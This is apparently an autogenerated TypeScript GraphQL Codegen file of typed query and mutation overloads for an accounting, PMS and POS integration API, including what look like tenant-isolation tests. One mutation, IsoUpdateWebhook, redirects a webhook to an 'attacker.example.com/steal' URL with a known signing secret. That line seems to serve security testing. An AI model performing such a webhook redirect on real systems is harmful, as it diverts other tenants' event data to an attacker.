/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoInvoicingTaxes($id: ID!) { consumer(id: $id) { invoicing { taxes { total items { id } } } } }\n"): (typeof documents)["\n  query IsoInvoicingTaxes($id: ID!) { consumer(id: $id) { invoicing { taxes { total items { id } } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoOpportunities($id: ID!) { consumer(id: $id) { invoicing { opportunities { total items { id } } } } }\n"): (typeof documents)["\n  query IsoOpportunities($id: ID!) { consumer(id: $id) { invoicing { opportunities { total items { id } } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoContact($id: ID!) { consumer(id: $id) { invoicing { contact(id: \"contact-0001\") { id } } } }\n"): (typeof documents)["\n  query IsoContact($id: ID!) { consumer(id: $id) { invoicing { contact(id: \"contact-0001\") { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoCreateProduct($id: ID!) { createProduct(consumerId: $id, input: { name: \"Planted\" }) { id } }\n"): (typeof documents)["\n  mutation IsoCreateProduct($id: ID!) { createProduct(consumerId: $id, input: { name: \"Planted\" }) { id } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoModifiers($id: ID!) { consumer(id: $id) { pos { modifiers { total items { id } } } } }\n"): (typeof documents)["\n  query IsoModifiers($id: ID!) { consumer(id: $id) { pos { modifiers { total items { id } } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoPmsTaxes($id: ID!) { consumer(id: $id) { pms { taxes { total items { id } } } } }\n"): (typeof documents)["\n  query IsoPmsTaxes($id: ID!) { consumer(id: $id) { pms { taxes { total items { id } } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoPmsOrders($id: ID!) { consumer(id: $id) { pms { orders(state: CLOSED) { total items { id } } } } }\n"): (typeof documents)["\n  query IsoPmsOrders($id: ID!) { consumer(id: $id) { pms { orders(state: CLOSED) { total items { id } } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoWebhook($id: ID!) { webhook(id: $id) { id url } }\n"): (typeof documents)["\n  query IsoWebhook($id: ID!) { webhook(id: $id) { id url } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoWebhookLogs($id: ID!) { webhook(id: $id) { logs { id } } }\n"): (typeof documents)["\n  query IsoWebhookLogs($id: ID!) { webhook(id: $id) { logs { id } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoUpdateWebhook($id: ID!) {\n    updateWebhook(id: $id, input: { url: \"https://attacker.example.com/steal\", signingSecret: \"known\" }) { id }\n  }\n"): (typeof documents)["\n  mutation IsoUpdateWebhook($id: ID!) {\n    updateWebhook(id: $id, input: { url: \"https://attacker.example.com/steal\", signingSecret: \"known\" }) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoDeleteWebhook($id: ID!) { deleteWebhook(id: $id) }\n"): (typeof documents)["\n  mutation IsoDeleteWebhook($id: ID!) { deleteWebhook(id: $id) }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtConsumers($search: String) {\n    consumers(search: $search) { id name email internalReference redirectUrl }\n  }\n"): (typeof documents)["\n  query MgmtConsumers($search: String) {\n    consumers(search: $search) { id name email internalReference redirectUrl }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtConsumer($id: ID!) {\n    consumer(id: $id) {\n      id name email internalReference redirectUrl\n      connections { id name integration integrationId api status data }\n    }\n  }\n"): (typeof documents)["\n  query MgmtConsumer($id: ID!) {\n    consumer(id: $id) {\n      id name email internalReference redirectUrl\n      connections { id name integration integrationId api status data }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { id name email internalReference redirectUrl }\n  }\n"): (typeof documents)["\n  mutation MgmtCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { id name email internalReference redirectUrl }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtCreateConnection($consumerId: ID!, $input: CreateConnectionInput!) {\n    createConnection(consumerId: $consumerId, input: $input) {\n      id name integration integrationId api status data\n    }\n  }\n"): (typeof documents)["\n  mutation MgmtCreateConnection($consumerId: ID!, $input: CreateConnectionInput!) {\n    createConnection(consumerId: $consumerId, input: $input) {\n      id name integration integrationId api status data\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtIntegrations {\n    integrations {\n      integrationId name api status\n      credentials { name optional }\n      operationsCoverage { operation status }\n    }\n  }\n"): (typeof documents)["\n  query MgmtIntegrations {\n    integrations {\n      integrationId name api status\n      credentials { name optional }\n      operationsCoverage { operation status }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtWebhooks {\n    webhooks { id accountId createdOn event url status createdBy integrationId }\n  }\n"): (typeof documents)["\n  query MgmtWebhooks {\n    webhooks { id accountId createdOn event url status createdBy integrationId }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtWebhook($id: ID!) {\n    webhook(id: $id) { id accountId createdOn event url status createdBy integrationId }\n  }\n"): (typeof documents)["\n  query MgmtWebhook($id: ID!) {\n    webhook(id: $id) { id accountId createdOn event url status createdBy integrationId }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtWebhookLogs($id: ID!) {\n    webhook(id: $id) {\n      id\n      logs { id webhookId event url accountId createdOn httpStatus integrationId }\n    }\n  }\n"): (typeof documents)["\n  query MgmtWebhookLogs($id: ID!) {\n    webhook(id: $id) {\n      id\n      logs { id webhookId event url accountId createdOn httpStatus integrationId }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtWebhookEventTypes {\n    webhookEventTypes { event api }\n  }\n"): (typeof documents)["\n  query MgmtWebhookEventTypes {\n    webhookEventTypes { event api }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { id accountId createdOn event url status createdBy integrationId }\n  }\n"): (typeof documents)["\n  mutation MgmtCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { id accountId createdOn event url status createdBy integrationId }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id accountId createdOn event url status createdBy integrationId }\n  }\n"): (typeof documents)["\n  mutation MgmtUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id accountId createdOn event url status createdBy integrationId }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtDeleteWebhook($id: ID!) {\n    deleteWebhook(id: $id)\n  }\n"): (typeof documents)["\n  mutation MgmtDeleteWebhook($id: ID!) {\n    deleteWebhook(id: $id)\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query OpsConsumers($search: String) {\n    consumers(search: $search) { id }\n  }\n"): (typeof documents)["\n  query OpsConsumers($search: String) {\n    consumers(search: $search) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation OpsUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id }\n  }\n"): (typeof documents)["\n  mutation OpsUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ServiceIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n"): (typeof documents)["\n  query ServiceIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ServiceDemoConsumer($id: ID!) {\n    consumer(id: $id) {\n      id\n      name\n      connections {\n        integrationId\n        api\n        status\n      }\n      invoicing {\n        taxes(size: 3) {\n          total\n          page\n          size\n          items {\n            id\n            rate\n            type\n          }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ServiceDemoConsumer($id: ID!) {\n    consumer(id: $id) {\n      id\n      name\n      connections {\n        integrationId\n        api\n        status\n      }\n      invoicing {\n        taxes(size: 3) {\n          total\n          page\n          size\n          items {\n            id\n            rate\n            type\n          }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query TrustedIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n"): (typeof documents)["\n  query TrustedIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query TokConsumers {\n    consumers { id }\n  }\n"): (typeof documents)["\n  query TokConsumers {\n    consumers { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MewsOrders($id: ID!, $page: Int, $size: Int, $state: PmsOrderState, $from: Date, $to: Date, $location: String) {\n    consumer(id: $id) {\n      pms {\n        orders(page: $page, size: $size, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          total\n          page\n          size\n          items {\n            id\n            sourceRef { id model }\n            creationDate\n            closingDate\n            serviceDate\n            total\n            taxAmount\n            orderNumber\n            totalDiscount\n            currency\n            country\n            customerId\n            locationId\n            guests\n            serviceId\n            mode\n            source\n            taxes { id name rate amount taxId taxRate taxAmount total }\n            items { id quantity unitPrice total taxAmount type taxRate taxId description productId accountingCategoryId discounts { id name amount total type } }\n            reservation { id startDate endDate creationDate resourceName resourceIdentifier resourceId { id sourceRef { id model } } }\n            bills { id invoiceNumber creationDate closingDate partners { id type companyName firstName lastName address { name street city postalCode country } } }\n          }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query MewsOrders($id: ID!, $page: Int, $size: Int, $state: PmsOrderState, $from: Date, $to: Date, $location: String) {\n    consumer(id: $id) {\n      pms {\n        orders(page: $page, size: $size, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          total\n          page\n          size\n          items {\n            id\n            sourceRef { id model }\n            creationDate\n            closingDate\n            serviceDate\n            total\n            taxAmount\n            orderNumber\n            totalDiscount\n            currency\n            country\n            customerId\n            locationId\n            guests\n            serviceId\n            mode\n            source\n            taxes { id name rate amount taxId taxRate taxAmount total }\n            items { id quantity unitPrice total taxAmount type taxRate taxId description productId accountingCategoryId discounts { id name amount total type } }\n            reservation { id startDate endDate creationDate resourceName resourceIdentifier resourceId { id sourceRef { id model } } }\n            bills { id invoiceNumber creationDate closingDate partners { id type companyName firstName lastName address { name street city postalCode country } } }\n          }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MewsTaxesFailure($id: ID!) {\n    consumer(id: $id) { pms { taxes(size: 1) { total } } }\n  }\n"): (typeof documents)["\n  query MewsTaxesFailure($id: ID!) {\n    consumer(id: $id) { pms { taxes(size: 1) { total } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MewsTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      pms {\n        taxes(page: $page, size: $size) {\n          total\n          page\n          size\n          items { id sourceRef { id model } label rate isCityTax raw }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query MewsTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      pms {\n        taxes(page: $page, size: $size) {\n          total\n          page\n          size\n          items { id sourceRef { id model } label rate isCityTax raw }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query OdooThreeContacts($id: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        a: contact(id: \"10\") { id companyName addresses { addressType } }\n        b: contact(id: \"11\") { id firstName companyId }\n        c: contact(id: \"14\") { id isSupplier }\n      }\n    }\n  }\n"): (typeof documents)["\n  query OdooThreeContacts($id: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        a: contact(id: \"10\") { id companyName addresses { addressType } }\n        b: contact(id: \"11\") { id firstName companyId }\n        c: contact(id: \"14\") { id isSupplier }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation OdooCreateProduct($id: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $id, input: $input) {\n      id sourceRef { id model } name unitPrice taxId code unit category currency description cost availableQuantity\n    }\n  }\n"): (typeof documents)["\n  mutation OdooCreateProduct($id: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $id, input: $input) {\n      id sourceRef { id model } name unitPrice taxId code unit category currency description cost availableQuantity\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query SquareModifiersError($id: ID!) { consumer(id: $id) { pos { modifiers { total } } } }\n"): (typeof documents)["\n  query SquareModifiersError($id: ID!) { consumer(id: $id) { pos { modifiers { total } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query SquareModifiers($id: ID!, $page: Int, $size: Int, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(page: $page, size: $size, locationId: $location) {\n          items { id name options { id name price } raw }\n          total page size\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query SquareModifiers($id: ID!, $page: Int, $size: Int, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(page: $page, size: $size, locationId: $location) {\n          items { id name options { id name price } raw }\n          total page size\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrConsumer($id: ID!) {\n    consumer(id: $id) { id name }\n  }\n"): (typeof documents)["\n  query ErrConsumer($id: ID!) {\n    consumer(id: $id) { id name }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrConsumers {\n    consumers { id }\n  }\n"): (typeof documents)["\n  query ErrConsumers {\n    consumers { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { id }\n  }\n"): (typeof documents)["\n  mutation ErrCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrTaxes($id: ID!) {\n    consumer(id: $id) { invoicing { taxes(size: 2) { total items { id } } } }\n  }\n"): (typeof documents)["\n  query ErrTaxes($id: ID!) {\n    consumer(id: $id) { invoicing { taxes(size: 2) { total items { id } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrOpportunities($id: ID!) {\n    consumer(id: $id) { invoicing { opportunities(size: 2) { total } } }\n  }\n"): (typeof documents)["\n  query ErrOpportunities($id: ID!) {\n    consumer(id: $id) { invoicing { opportunities(size: 2) { total } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrContact($id: ID!, $contact: ID!) {\n    consumer(id: $id) { invoicing { contact(id: $contact) { id } } }\n  }\n"): (typeof documents)["\n  query ErrContact($id: ID!, $contact: ID!) {\n    consumer(id: $id) { invoicing { contact(id: $contact) { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrModifiers($id: ID!) {\n    consumer(id: $id) { pos { modifiers(size: 2) { total } } }\n  }\n"): (typeof documents)["\n  query ErrModifiers($id: ID!) {\n    consumer(id: $id) { pos { modifiers(size: 2) { total } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrCreateProduct($id: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $id, input: $input) { id name }\n  }\n"): (typeof documents)["\n  mutation ErrCreateProduct($id: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $id, input: $input) { id name }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { id }\n  }\n"): (typeof documents)["\n  mutation ErrCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrWebhook($id: ID!) {\n    webhook(id: $id) { id }\n  }\n"): (typeof documents)["\n  query ErrWebhook($id: ID!) {\n    webhook(id: $id) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id }\n  }\n"): (typeof documents)["\n  mutation ErrUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrDeleteWebhook($id: ID!) {\n    deleteWebhook(id: $id)\n  }\n"): (typeof documents)["\n  mutation ErrDeleteWebhook($id: ID!) {\n    deleteWebhook(id: $id)\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrIntegrations {\n    integrations { integrationId name operationsCoverage { operation status } }\n  }\n"): (typeof documents)["\n  query ErrIntegrations {\n    integrations { integrationId name operationsCoverage { operation status } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      invoicing {\n        taxes(page: $page, size: $size) {\n          items { id sourceRef { id model } label rate type code scope active }\n          total page size\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      invoicing {\n        taxes(page: $page, size: $size) {\n          items { id sourceRef { id model } label rate type code scope active }\n          total page size\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityOpportunities($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      invoicing {\n        opportunities(page: $page, size: $size) {\n          items {\n            id sourceRef { id model } name total probability status partnerId comment currency description\n            pipeStatus pipeName createdDate dueDate endDate isWon ownerRef { id model name }\n          }\n          total page size\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityOpportunities($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      invoicing {\n        opportunities(page: $page, size: $size) {\n          items {\n            id sourceRef { id model } name total probability status partnerId comment currency description\n            pipeStatus pipeName createdDate dueDate endDate isWon ownerRef { id model name }\n          }\n          total page size\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityContact($id: ID!, $contact: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        contact(id: $contact) {\n          id sourceRef { id model } isProspect isCustomer isSupplier isCompany companyName firstName lastName\n          email phone mobile companyId vat companyNumber currency language comment customerAccountNumber\n          supplierAccountNumber birthdate gender\n          addresses { addressType name phone mobile email street number box city postalCode country }\n          externalReference\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityContact($id: ID!, $contact: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        contact(id: $contact) {\n          id sourceRef { id model } isProspect isCustomer isSupplier isCompany companyName firstName lastName\n          email phone mobile companyId vat companyNumber currency language comment customerAccountNumber\n          supplierAccountNumber birthdate gender\n          addresses { addressType name phone mobile email street number box city postalCode country }\n          externalReference\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityModifiers($id: ID!, $page: Int, $size: Int, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(page: $page, size: $size, locationId: $location) {\n          items { id name options { id name price } }\n          total page size\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityModifiers($id: ID!, $page: Int, $size: Int, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(page: $page, size: $size, locationId: $location) {\n          items { id name options { id name price } }\n          total page size\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityPmsTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      pms {\n        taxes(page: $page, size: $size) {\n          items { id sourceRef { id model } label rate isCityTax }\n          total page size\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityPmsTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      pms {\n        taxes(page: $page, size: $size) {\n          items { id sourceRef { id model } label rate isCityTax }\n          total page size\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityPmsOrders(\n    $id: ID!\n    $page: Int\n    $size: Int\n    $state: PmsOrderState\n    $from: Date\n    $to: Date\n    $location: String\n  ) {\n    consumer(id: $id) {\n      pms {\n        orders(page: $page, size: $size, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          items {\n            id sourceRef { id model } creationDate closingDate serviceDate total taxAmount orderNumber deviceId\n            totalDiscount totalRefund totalTip deliveryFee mode source currency country loyalty customerId\n            locationId guests serviceId\n            taxes { taxId name taxRate taxAmount total id rate amount }\n            items {\n              id sourceRef { id model } quantity unitPrice total taxAmount type menuId taxRate taxId description\n              discounts { id name total type amount } productId accountingCategoryId\n            }\n            reservation {\n              id sourceRef { id model } startDate endDate creationDate\n              resourceId { id sourceRef { id model } } resourceName resourceIdentifier\n            }\n            bills {\n              id sourceRef { id model } invoiceNumber creationDate closingDate\n              partners {\n                id sourceRef { id model } type firstName lastName companyName\n                address { addressType name street number box city postalCode country }\n              }\n            }\n          }\n          total page size\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityPmsOrders(\n    $id: ID!\n    $page: Int\n    $size: Int\n    $state: PmsOrderState\n    $from: Date\n    $to: Date\n    $location: String\n  ) {\n    consumer(id: $id) {\n      pms {\n        orders(page: $page, size: $size, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          items {\n            id sourceRef { id model } creationDate closingDate serviceDate total taxAmount orderNumber deviceId\n            totalDiscount totalRefund totalTip deliveryFee mode source currency country loyalty customerId\n            locationId guests serviceId\n            taxes { taxId name taxRate taxAmount total id rate amount }\n            items {\n              id sourceRef { id model } quantity unitPrice total taxAmount type menuId taxRate taxId description\n              discounts { id name total type amount } productId accountingCategoryId\n            }\n            reservation {\n              id sourceRef { id model } startDate endDate creationDate\n              resourceId { id sourceRef { id model } } resourceName resourceIdentifier\n            }\n            bills {\n              id sourceRef { id model } invoiceNumber creationDate closingDate\n              partners {\n                id sourceRef { id model } type firstName lastName companyName\n                address { addressType name street number box city postalCode country }\n              }\n            }\n          }\n          total page size\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ParityCreateProduct($consumerId: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $consumerId, input: $input) {\n      id sourceRef { id model } name unitPrice taxId code unit category currency description cost\n      availableQuantity\n    }\n  }\n"): (typeof documents)["\n  mutation ParityCreateProduct($consumerId: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $consumerId, input: $input) {\n      id sourceRef { id model } name unitPrice taxId code unit category currency description cost\n      availableQuantity\n    }\n  }\n"];

export function graphql(source: string) {
  return (documents as any)[source] ?? {};
}

export type DocumentType<TDocumentNode extends DocumentNode<any, any>> = TDocumentNode extends DocumentNode<  infer TType,  any>  ? TType  : never;